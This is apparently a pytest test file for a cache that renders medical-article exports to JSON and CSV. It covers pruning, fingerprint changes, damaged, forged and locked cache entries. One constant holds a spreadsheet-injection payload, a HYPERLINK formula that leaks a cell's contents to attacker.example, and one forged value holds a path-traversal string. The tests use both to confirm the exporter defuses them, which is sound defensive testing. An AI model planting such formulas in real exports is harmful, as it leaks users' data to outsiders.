"""The JSON/CSV render cache: round trips, pruning, fingerprint changes, damaged and busy cache files."""

from __future__ import annotations

import csv
import hashlib
import json
import sqlite3
import subprocess
import sys
import zlib
from pathlib import Path
from typing import Any

import pytest

from immunopipe.export import render_cache
from immunopipe.export.csv import TABLES
from immunopipe.export.render_cache import CACHE_FILE, RenderCache, Rendering


def rendering(article_id: str) -> Rendering:
    """One row per table: the id in ``article_id``, then a formula-like text, a number and an empty cell in turn."""
    fillers: tuple[str | int | None, ...] = ("=1+1", 3, None)
    rows = tuple(
        ((tuple(article_id if c.name == "article_id" else fillers[n % 3] for n, c in enumerate(table.columns))),)
        for table in TABLES
    )
    return Rendering(article_id, f"Title of {article_id}", "ab" * 32, rows)


def fill(directory: Path, *ids: str) -> None:
    with RenderCache(directory) as cache:
        for article_id in ids:
            cache.put(f"digest-{article_id}", rendering(article_id))


def test_renderings_survive_between_runs(tmp_path: Path) -> None:
    fill(tmp_path, "lupus", "gout")
    with RenderCache(tmp_path) as cache:
        assert cache.get("digest-lupus") == rendering("lupus")
        assert cache.get("digest-gout") == rendering("gout")
        assert cache.get("digest-other") is None


def test_entries_a_run_did_not_use_are_dropped_unless_it_failed(tmp_path: Path) -> None:
    fill(tmp_path, "lupus", "gout")
    with pytest.raises(RuntimeError), RenderCache(tmp_path) as cache:
        cache.get("digest-lupus")
        raise RuntimeError("export failed")
    with RenderCache(tmp_path) as cache:
        assert cache.get("digest-gout") is not None  # the failed run pruned nothing
    with RenderCache(tmp_path) as cache:
        assert cache.get("digest-lupus") is None  # the last successful run used only gout


def test_a_new_fingerprint_drops_every_entry(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    fill(tmp_path, "lupus")
    monkeypatch.setattr(render_cache, "fingerprint", lambda: "another renderer")
    with RenderCache(tmp_path) as cache:
        assert cache.get("digest-lupus") is None


def test_a_damaged_cache_file_is_rebuilt(tmp_path: Path) -> None:
    (tmp_path / CACHE_FILE).write_bytes(b"not a database at all" * 100)
    fill(tmp_path, "lupus")
    with RenderCache(tmp_path) as cache:
        assert cache.get("digest-lupus") == rendering("lupus")


def test_an_entry_that_does_not_decode_is_a_miss(tmp_path: Path) -> None:
    fill(tmp_path, "lupus")
    with sqlite3.connect(tmp_path / CACHE_FILE) as db:
        db.execute("UPDATE entries SET content = x'00'")
    with RenderCache(tmp_path) as cache:
        assert cache.get("digest-lupus") is None


def stored(directory: Path, digest: str) -> tuple[str, object]:
    """An entry's checksum and decoded content, straight from the database."""
    with sqlite3.connect(directory / CACHE_FILE) as db:
        checksum, blob = db.execute("SELECT checksum, content FROM entries WHERE digest = ?", (digest,)).fetchone()
    return checksum, json.loads(zlib.decompress(blob))


def store(directory: Path, digest: str, content: object, *, checksum: str | None = None) -> None:
    """Put ``content`` in an entry, with the right checksum unless one is given."""
    data = json.dumps(content).encode()
    checksum = checksum or hashlib.sha256(digest.encode() + b"\0" + data).hexdigest()
    with sqlite3.connect(directory / CACHE_FILE) as db:
        db.execute(
            "UPDATE entries SET checksum = ?, content = ? WHERE digest = ?", (checksum, zlib.compress(data), digest)
        )


def test_an_entry_edited_without_its_checksum_is_a_miss(tmp_path: Path) -> None:
    fill(tmp_path, "lupus")
    checksum, content = stored(tmp_path, "digest-lupus")
    content[1] = "A title somebody changed"  # type: ignore[index]
    store(tmp_path, "digest-lupus", content, checksum=checksum)
    with RenderCache(tmp_path) as cache:
        assert cache.get("digest-lupus") is None


def test_an_entry_moved_to_another_key_is_a_miss(tmp_path: Path) -> None:
    fill(tmp_path, "lupus", "gout")
    checksum, content = stored(tmp_path, "digest-lupus")
    store(tmp_path, "digest-gout", content, checksum=checksum)
    with RenderCache(tmp_path) as cache:
        assert cache.get("digest-gout") is None
        assert cache.get("digest-lupus") == rendering("lupus")


#: Ways to edit a stored entry's content so that it no longer fits the tables (checksum recomputed).
FORGERIES = [
    pytest.param(lambda c: c.__setitem__(0, "../escape"), id="id-not-a-slug"),
    pytest.param(lambda c: c.__setitem__(2, "not a checksum"), id="json-checksum"),
    pytest.param(lambda c: c.__setitem__(3, c[3][:-1]), id="a-table-missing"),
    pytest.param(lambda c: c[3][0][0].append("extra cell"), id="row-too-wide"),
    pytest.param(lambda c: c[3][0][0].__setitem__(0, "another-article"), id="row-of-another-article"),
    pytest.param(lambda c: c[3][0][0].__setitem__(1, {"a": 1}), id="cell-not-text"),
    pytest.param(lambda c: c[3][0][0].__setitem__(1, True), id="cell-a-boolean"),
    pytest.param(lambda c: c.__setitem__(1, None), id="title-missing"),
]


@pytest.mark.parametrize("forge", FORGERIES)
def test_an_entry_of_the_wrong_shape_is_a_miss_even_with_a_valid_checksum(tmp_path: Path, forge: Any) -> None:
    fill(tmp_path, "lupus")
    _, content = stored(tmp_path, "digest-lupus")
    forge(content)
    store(tmp_path, "digest-lupus", content)
    with RenderCache(tmp_path) as cache:
        assert cache.get("digest-lupus") is None


def test_a_cache_busy_in_another_export_is_left_out_without_error(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    fill(tmp_path, "lupus")
    other = sqlite3.connect(tmp_path / CACHE_FILE)
    other.execute("BEGIN EXCLUSIVE")
    monkeypatch.setattr(sqlite3, "connect", lambda path, timeout: other.__class__(path, timeout=0.05))
    try:
        with RenderCache(tmp_path) as cache:
            cache.put("digest-gout", rendering("gout"))
            assert cache.get("digest-lupus") is None
    finally:
        other.rollback()
        other.close()
    monkeypatch.undo()
    with RenderCache(tmp_path) as cache:
        assert cache.get("digest-lupus") == rendering("lupus")


# --- through the installed command line: a restored cache cannot put a live formula in a CSV ------

IMMUNOPIPE = Path(sys.executable).with_name("immunopipe")
FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'


def immunopipe(folder: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([str(IMMUNOPIPE), *args], cwd=folder, capture_output=True, text=True, timeout=120)


def edit_every_entry(cache_dir: Path, *, recompute_checksum: bool) -> None:
    """Put :data:`FORMULA` in the title cell of every cached articles.csv row (a forged or damaged entry)."""
    with sqlite3.connect(cache_dir / CACHE_FILE) as db:
        for digest, checksum, blob in db.execute("SELECT digest, checksum, content FROM entries").fetchall():
            content = json.loads(zlib.decompress(blob))
            content[3][0][0][1] = FORMULA
            data = json.dumps(content).encode()
            if recompute_checksum:
                checksum = hashlib.sha256(digest.encode() + b"\0" + data).hexdigest()
            db.execute(
                "UPDATE entries SET checksum = ?, content = ? WHERE digest = ?", (checksum, zlib.compress(data), digest)
            )


@pytest.mark.parametrize("recompute_checksum", [False, True], ids=["damaged", "forged"])
def test_edited_cache_rows_never_reach_a_csv_as_a_live_formula(
    tmp_path: Path, seed_text: str, recompute_checksum: bool
) -> None:
    (tmp_path / "content").mkdir()
    (tmp_path / "content" / "immune-system-medicine.yaml").write_text(seed_text)
    assert immunopipe(tmp_path, "export", "--to", "json", "--to", "csv").returncode == 0
    (tmp_path / "exports" / "csv" / "articles.csv").unlink()  # so that the export writes the table again
    edit_every_entry(tmp_path / ".immunopipe-cache", recompute_checksum=recompute_checksum)
    result = immunopipe(tmp_path, "export", "--to", "json", "--to", "csv")
    assert result.returncode == 0, result.stderr
    with (tmp_path / "exports" / "csv" / "articles.csv").open(encoding="utf-8-sig", newline="") as handle:
        titles = [row["title"] for row in csv.DictReader(handle)]
    if recompute_checksum:  # a well-formed forgery is served, but only ever as text
        assert titles == ["'" + FORMULA]
    else:  # a damaged entry is a miss: the article is rendered again
        assert titles == ["What is immune system medicine used for?"]
    assert all(not title.startswith(("=", "+", "-", "@")) for title in titles)
